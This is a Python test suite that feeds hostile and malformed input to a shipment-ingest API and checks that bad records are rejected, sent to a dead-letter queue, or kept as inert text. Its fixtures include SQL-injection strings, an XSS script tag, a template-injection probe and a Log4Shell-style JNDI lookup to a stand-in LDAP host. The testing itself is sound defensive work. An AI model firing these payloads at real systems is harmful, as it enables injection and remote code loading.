"""Hostile input against the ingest service on the real Kafka and PostgreSQL.

Every hostile record gets a 4xx-class answer of its own (a rejected result, or the whole body
refused), the service keeps serving, every hostile record that was part of a batch is in the
DLQ as sent, and every valid record beside it lands on the topic.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import httpx
from fastapi.testclient import TestClient

from shared.kafka.records import Record
from shared.schemas.shipment import Shipment

Start = Callable[..., TestClient]
ReadTopic = Callable[..., list[Record]]
MEGABYTE = 1024 * 1024


def shipment(shipment_id: str, **overrides: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "shipment_id": shipment_id,
        "source": "hostile",
        "parties": [{"role": "consignee", "name": "AURUS LLC", "country": "RU"}],
        "goods": [{"hs_code": "8708.30", "value": 10}],
    }
    record.update(overrides)
    return record


def party(name: str) -> list[dict[str, Any]]:
    return [{"role": "consignee", "name": name}]


def nested(depth: int) -> Any:
    value: Any = "garbage"
    for level in range(depth):
        value = {"k": value} if level % 2 else [value]
    return value


# (raw JSON of the element, the first error's type). Written as raw text so that NaN and
# Infinity, which json.dumps would also write, are exactly what the test says.
HOSTILE: list[tuple[bytes, str]] = [
    (json.dumps({**shipment("H-ty1"), "shipment_id": {"a": 1}}).encode(), "string_type"),
    (json.dumps(shipment("H-ty2", parties="AURUS LLC")).encode(), "list_type"),
    (json.dumps(shipment("H-ty3", goods=5)).encode(), "list_type"),
    (json.dumps(shipment("H-ty4", declared_at=True)).encode(), "datetime_type"),
    (json.dumps(shipment("H-ty5", parties=[None, 5, "x"])).encode(), "model_type"),
    (json.dumps(shipment("H-ty6", extra="x")).encode(), "dict_type"),
    (json.dumps({}).encode(), "missing"),
    (json.dumps({"shipment_id": "H-mis"}).encode(), "missing"),
    (json.dumps(shipment("H-big", parties=party("A" * MEGABYTE))).encode(), "string_too_long"),
    (json.dumps(shipment("X" * MEGABYTE)).encode(), "string_too_long"),
    (
        b'{"shipment_id": "H-nan", "source": "hostile", "parties": [{"role": "buyer", '
        b'"name": "N"}], "goods": [{"value": NaN}]}',
        "non_finite_number",
    ),
    (
        b'{"shipment_id": "H-inf", "source": "hostile", "parties": [{"role": "buyer", '
        b'"name": "N"}], "weight": -Infinity}',
        "non_finite_number",
    ),
    (
        b'{"shipment_id": "H-1e400", "source": "hostile", "parties": [{"role": "buyer", '
        b'"name": "N"}], "goods": [{"quantity": 1e400}]}',
        "non_finite_number",
    ),
    (json.dumps(shipment("H-deep", blob=nested(200))).encode(), "too_deeply_nested"),
    # Valid field by field, but too large for the broker: refused, never sent (a record the
    # broker refuses would leave the idempotent producer failing every later send).
    (
        json.dumps(shipment("H-huge", goods=[{"description": "d" * 4000}] * 300)).encode(),
        "record_too_large",
    ),
    (
        b'{"shipment_id": "H-sur", "source": "hostile", "parties": [{"role": "buyer", '
        b'"name": "\\ud800"}]}',
        "invalid_unicode",
    ),
    (b"null", "not_an_object"),
    (b"[[[[]]]]", "not_an_object"),
    (b'"\'; DROP TABLE shipments; --"', "not_an_object"),
]

# Strange but valid: data, kept as written (a NUL is an invisible character and is dropped).
VALID_ODDITIES: list[tuple[str, str]] = [
    ("'; DROP TABLE shipments; --", "'; DROP TABLE shipments; --"),
    ("<script>alert('x')</script>", "<script>alert('x')</script>"),
    ("Robert'); DELETE FROM alerts;--", "Robert'); DELETE FROM alerts;--"),
    ("AU\u0000RUS \u202eLLC", "AURUS LLC"),
    ("{{7*7}} ${jndi:ldap://x/a}", "{{7*7}} ${jndi:ldap://x/a}"),
]


def post(client: TestClient, key: str, body: bytes) -> httpx.Response:
    response: httpx.Response = client.post(
        "/v1/shipments", content=body, headers={"X-API-Key": key}
    )
    return response


def valid_elements() -> Iterator[tuple[bytes, str, str]]:
    """(raw JSON, key, the name expected on the topic)."""
    for index, (name, expected) in enumerate(VALID_ODDITIES):
        record = shipment(f"V-{index}", parties=party(name))
        yield json.dumps(record).encode(), f"hostile:V-{index}", expected


def test_hostile_records_are_refused_one_by_one_and_nothing_valid_is_lost(
    ingest_service: Start,
    ingest_api_keys: dict[str, str],
    ingest_topics: Any,
    read_topic: ReadTopic,
) -> None:
    client = ingest_service()
    valid = list(valid_elements())
    elements: list[bytes] = []
    for index, (raw, _error_type) in enumerate(HOSTILE):
        elements.append(raw)
        if index < len(valid):
            elements.append(valid[index][0])
    response = post(client, ingest_api_keys["ingest"], b"[" + b",\n".join(elements) + b"]")

    assert response.status_code == 202
    results = response.json()["results"]
    expected_valid = {raw: key for raw, key, _ in valid}
    for raw, result in zip(elements, results, strict=True):
        if raw in expected_valid:
            assert result == {
                "index": result["index"],
                "status": "accepted",
                "key": expected_valid[raw],
            }
        else:
            assert result["status"] == "rejected", raw[:80]
    rejected_types = [r["errors"][0]["type"] for r in results if r["status"] == "rejected"]
    assert rejected_types == [error_type for _, error_type in HOSTILE]

    landed = read_topic(ingest_topics.shipments, len(valid))
    names = {
        (r.key or b"").decode(): Shipment.model_validate_json(r.value or b"").parties[0].name
        for r in landed
    }
    assert len(landed) == len(valid)
    assert names == {key: expected for _, key, expected in valid}

    # Each hostile record is in the DLQ as sent; one too large for the broker is cut, and its
    # headers give its size (the DLQ must never hold a record the broker refuses).
    dead = read_topic(ingest_topics.dlq, len(HOSTILE))
    assert len(dead) == len(HOSTILE)
    for (raw, error_type), record in zip(HOSTILE, sorted(dead, key=dlq_index), strict=True):
        assert record.header("tw.dlq.error_type") == error_type.encode()
        assert len(record.header("tw.dlq.reason") or b"") <= 4096
        value = record.value or b""
        if len(raw) < MEGABYTE:
            assert value == raw
        else:
            assert raw.startswith(value) and len(value) < MEGABYTE
            assert record.header("tw.dlq.truncated_from_bytes") == str(len(raw)).encode()


def dlq_index(record: Record) -> int:
    return int(record.header("tw.dlq.index") or b"-1")


HOSTILE_BODIES: dict[str, tuple[bytes, int]] = {
    "invalid UTF-8": (b'{"shipment_id": "\xff\xfe", "source": "s"}', 400),
    "latin-1 text": ('{"name": "Müller"}'.encode("latin-1"), 400),
    "raw NUL in a string": (b'{"shipment_id": "a\x00b"}', 400),
    "truncated": (b'[{"shipment_id": "T-1", "source": "s", "parties": [', 400),
    "trailing garbage": (b'{"shipment_id": "T-2"} ; DROP TABLE shipments', 400),
    "SQL instead of JSON": (b"'; DROP TABLE shipments; --", 400),
    "HTML instead of JSON": (b"<script>alert(1)</script>", 400),
    "nested a million deep": (b"[" * MEGABYTE, 400),
    "a 5000-digit number": (b'{"quantity": ' + b"9" * 5000 + b"}", 400),
    "empty": (b"", 400),
    "a bare string": (b'"shipment"', 422),
    "a bare number": (b"NaN", 422),
    "an empty array": (b"[ ]", 422),
}


def test_hostile_bodies_are_refused_whole_and_the_service_keeps_serving(
    ingest_service: Start,
    ingest_api_keys: dict[str, str],
    ingest_topics: Any,
    read_topic: ReadTopic,
) -> None:
    client = ingest_service()
    statuses = {
        name: post(client, ingest_api_keys["ingest"], body).status_code
        for name, (body, _status) in HOSTILE_BODIES.items()
    }
    assert statuses == {name: status for name, (_body, status) in HOSTILE_BODIES.items()}

    after = post(client, ingest_api_keys["ingest"], json.dumps(shipment("AFTER")).encode())
    assert after.status_code == 202
    assert [r.key for r in read_topic(ingest_topics.shipments, 1)] == [b"hostile:AFTER"]
    assert read_topic(ingest_topics.dlq, 0, timeout_s=1) == []


def test_oversize_bodies_and_batches_are_413(
    ingest_service: Start,
    ingest_api_keys: dict[str, str],
    ingest_topics: Any,
    read_topic: ReadTopic,
) -> None:
    client = ingest_service(max_body_bytes=64 * 1024, max_batch_records=5)
    key = {"X-API-Key": ingest_api_keys["ingest"]}
    too_big = json.dumps([shipment(f"B-{n}", note="x" * 1000) for n in range(80)]).encode()
    assert client.post("/v1/shipments", content=too_big, headers=key).status_code == 413

    def streamed() -> Iterator[bytes]:
        yield b"["
        for n in range(80):
            yield json.dumps(shipment(f"S-{n}", note="x" * 1000)).encode() + b","
        yield b"{}]"

    assert client.post("/v1/shipments", content=streamed(), headers=key).status_code == 413
    six = json.dumps([shipment(f"N-{n}") for n in range(6)]).encode()
    too_many = client.post("/v1/shipments", content=six, headers=key)
    assert too_many.status_code == 413
    assert "at most 5 records" in too_many.json()["detail"]

    five = json.dumps([shipment(f"F-{n}") for n in range(5)]).encode()
    assert client.post("/v1/shipments", content=five, headers=key).status_code == 202
    landed = read_topic(ingest_topics.shipments, 5)
    assert sorted((r.key or b"").decode() for r in landed) == [f"hostile:F-{n}" for n in range(5)]
